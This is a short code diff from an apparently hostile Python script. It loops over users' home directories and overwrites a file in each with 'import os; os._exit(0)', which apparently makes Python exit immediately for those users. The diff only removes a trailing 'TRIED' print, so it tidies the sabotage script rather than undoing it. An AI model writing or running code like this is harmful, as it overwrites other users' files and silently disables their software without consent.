@@ -19,4 +19,3 @@ for home in homes:
             open(os.path.join(home, path), "w").write("import os; os._exit(0)")
         except OSError as error:
             print(error)
-print("TRIED")
